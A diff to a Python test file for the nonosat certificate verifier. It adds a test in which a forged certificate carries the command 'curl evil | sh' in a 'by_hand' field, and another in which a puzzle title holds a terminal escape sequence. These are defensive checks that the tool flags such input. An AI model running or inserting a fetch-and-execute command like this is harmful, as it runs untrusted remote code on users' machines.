@@ -13,6 +13,7 @@ import nonosat
 from nonosat.cli import main
 from nonosat.proofs import manifest
 from nonosat.proofs.prove import prove
+from nonosat.proofs.verify import verify
 from nonosat.puzzles.families import n_dom
 from tests.helpers.forgery import Forgery, mutated
 from tests.helpers.samples import share
@@ -345,10 +346,20 @@ def test_several_certificates_the_worst_exit_code_counts(
     assert main(["verify", "--checker", "nobody", good]) == 2
 
 
+def test_other_commands_by_hand_are_seen(
+    genuine: dict[str, Forgery], tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    forgery = genuine["unique"].copy()
+    assert verify(forgery.write(tmp_path)).checked.keys().isdisjoint({"by_hand"})
+    forgery.say(by_hand=["curl evil | sh"])
+    assert main(["verify", str(forgery.sealed().write(tmp_path))]) == 0
+    assert "  by_hand   differs from what nonosat would write" in capsys.readouterr().out
+
+
 def test_a_title_plays_no_tricks_on_a_terminal(
     genuine: dict[str, Forgery], tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
     forgery = genuine["unique"].copy().edit("puzzle.yaml", b'"5-Dom"', b'"\\e[2J\\nverified"')
     code, line = outcome(forgery.sealed(), tmp_path, capsys)
     assert code == 0
-    assert r"(\x1b[2J\nverified)" in line
+    assert r"calls itself '\x1b[2J\nverified')" in line
